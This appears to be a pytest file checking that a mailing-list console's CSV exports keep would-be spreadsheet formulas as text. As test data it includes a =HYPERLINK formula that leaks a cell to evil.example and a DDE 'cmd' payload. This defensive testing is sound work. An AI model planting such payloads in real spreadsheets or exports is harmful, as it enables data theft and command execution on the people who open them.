"""Every CSV the console hands out keeps a would-be formula as text (CSV injection), on real services."""

from __future__ import annotations

import csv
import email
import email.policy
import io
import json
import re
from pathlib import Path

import pytest_asyncio
from mailblast.v1 import auth_pb2, auth_pb2_grpc

from services.common.identity import IDENTITY_HEADER, IdentitySigner, Principal
from tests.support.console import OWNER, PASSWORD, Console, Web, create_list, start_console
from tests.support.poll import poll

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"詳細")'


@pytest_asyncio.fixture
async def console(database_url, nats_server, internal_key, tls_files, dkim_keys, tmp_path: Path):
    """The console on real services."""
    started = await start_console(database_url, nats_server, internal_key, tls_files, dkim_keys, tmp_path / "outbox")
    yield started
    await started.stop()


async def logged_in(console: Console) -> Web:
    """The organisation's owner in the console."""
    web = console.client()
    assert (await web.login(OWNER, PASSWORD)).status_code == 302
    return web


def rows_of(response, encoding: str) -> list[list[str]]:
    """A CSV download's rows."""
    assert response.status_code == 200, response.get_data(as_text=True)
    return list(csv.reader(io.StringIO(response.get_data().decode(encoding))))


async def sign_up_and_confirm(console: Console, form_id: int, fields: dict[str, str]) -> None:
    """A stranger's signup on the hosted form, confirmed from the link in the mail the catcher caught."""
    stranger = console.client()
    posted = await stranger.post(f"/f/{form_id}", fields, csrf=False)
    assert posted.status_code == 200, posted.get_data(as_text=True)

    async def mail():
        return console.catcher.received_by().get(fields["email"])

    caught = (await poll(mail))[0]
    body = email.message_from_bytes(caught.data, policy=email.policy.default).get_body(("plain",)).get_content()
    path = re.search(r"https?://\S+?(/c/[A-Za-z0-9_\-]+)", body).group(1)
    landing = await stranger.get(path)
    token = re.search(r'name="csrf_token" value="([^"]+)"', landing.get_data(as_text=True)).group(1)
    assert (await stranger.post(path, {"csrf_token": token}, csrf=False)).status_code == 200


async def test_signed_up_formula_leaves_the_list_export_as_text_in_utf8_and_shift_jis(console):
    # A stranger signs up on the public form with the name =HYPERLINK(...) and confirms; the owner
    # exports the list as UTF-8 and as Shift_JIS. In both the name cell starts with a single quote, so
    # a spreadsheet shows it as text instead of running it; an address starting with + and a name
    # starting with @ get the same. A negative number in a number field (-5) stays a number, and
    # Japanese names and text fields come out exactly as they went in.
    web = await logged_in(console)
    list_id = await create_list(web, "ニュース")
    assert (await web.post("/fields", {"key": "points", "label": "ポイント", "type": "number"})).status_code == 302
    assert (await web.post("/fields", {"key": "pref", "label": "都道府県", "type": "text"})).status_code == 302
    await web.post("/audience-settings", {"sender_address": "news@news.example.com", "sender_name": "Acme"})
    created = await web.post(
        "/forms",
        {
            "list_id": str(list_id),
            "name": "登録",
            "ask_name": "1",
            "field_keys": ["points", "pref"],
            "thanks_text": "ok",
        },
    )
    form_id = int(created.location.rsplit("/", 1)[1])
    await sign_up_and_confirm(
        console, form_id, {"email": "mallory@example.net", "name": HYPERLINK, "field.points": "-5", "field.pref": "-"}
    )
    await sign_up_and_confirm(
        console, form_id, {"email": "+81@example.jp", "name": "@SUM(1+1)", "field.pref": "東京都"}
    )
    await sign_up_and_confirm(
        console,
        form_id,
        {"email": "hanako@example.jp", "name": "山田 花子", "field.points": "12", "field.pref": "＝大阪"},
    )

    for encoding, codec in (("utf-8", "utf-8-sig"), ("shift_jis", "cp932")):
        rows = rows_of(await web.get(f"/lists/{list_id}/export.csv?encoding={encoding}"), codec)
        assert rows[0] == ["email", "name", "status", "points", "pref"]
        by_email = {row[0]: row for row in rows[1:]}
        assert by_email["mallory@example.net"] == ["mallory@example.net", "'" + HYPERLINK, "active", "-5", "'-"]
        assert by_email["'+81@example.jp"] == ["'+81@example.jp", "'@SUM(1+1)", "active", "", "東京都"]
        assert by_email["hanako@example.jp"] == ["hanako@example.jp", "山田 花子", "active", "12", "＝大阪"]


async def test_import_error_rows_keep_formulas_as_text(console):
    # An uploaded CSV has a bad row whose first cell is a DDE payload (-2+3+cmd|...): the import-errors
    # CSV shows that row's raw text with a leading quote, its row number and its reason as they are;
    # the Japanese text of another bad row comes out unchanged.
    web = await logged_in(console)
    list_id = await create_list(web, "取込")
    source = "email,name\ngood@example.jp,良い\n-2+3+cmd|' /C calc'!A0,悪い\n住所なし,名前だけ\n"
    upload = await web.post(
        f"/lists/{list_id}/upload",
        {"file": (io.BytesIO(source.encode()), "people.csv")},
        content_type="multipart/form-data",
    )
    assert upload.status_code == 302

    async def finished():
        data = (await web.get(upload.location + ".json")).get_json()
        return data if data["finished"] else None

    assert (await poll(finished))["rows_failed"] == 2
    rows = rows_of(await web.get(upload.location + "/errors.csv"), "utf-8-sig")
    raw = {row[0]: row[2] for row in rows[1:]}
    assert raw == {"3": "'-2+3+cmd|' /C calc'!A0,悪い", "4": "住所なし,名前だけ"}


async def test_suppression_export_keeps_formula_addresses_as_text(console):
    # Addresses are valid with = or - first (=1+2@example.net); suppressed from the console, they leave
    # the suppression export (UTF-8 and Shift_JIS) quoted as text, ordinary addresses unchanged.
    web = await logged_in(console)
    added = await web.post("/suppression", {"emails": "=1+2@example.net\n-1@example.net\nplain@example.jp\n"})
    assert added.status_code == 302
    for encoding, codec in (("utf-8", "utf-8-sig"), ("shift_jis", "cp932")):
        rows = rows_of(await web.get(f"/suppression.csv?encoding={encoding}"), codec)
        assert sorted(row[0] for row in rows[1:]) == ["'-1@example.net", "'=1+2@example.net", "plain@example.jp"]


async def test_audit_log_export_keeps_a_formula_target_as_text(console, internal_key):
    # A service records an audit event whose target starts with = (the RPC every service uses): the
    # audit-log CSV shows it quoted as text; the other cells (time, action) are unchanged.
    signer = IdentitySigner(internal_key)
    stub = auth_pb2_grpc.AuthServiceStub(console.channel(console.auth.grpc_port, "campaigns"))
    identity = signer.sign(Principal(organization_id=console.organization_id, service="campaigns"), "auth")
    await stub.RecordAuditEvent(
        auth_pb2.RecordAuditEventRequest(
            action="campaign.sent", target=HYPERLINK, detail_json=json.dumps({"name": "秋"}, ensure_ascii=False)
        ),
        metadata=[(IDENTITY_HEADER, identity)],
    )
    web = await logged_in(console)
    rows = rows_of(await web.get("/audit.csv?action=campaign."), "utf-8-sig")
    [event] = rows[1:]
    assert event[4:6] == ["campaign.sent", "'" + HYPERLINK]
    assert event[7] == '{"name": "秋"}'
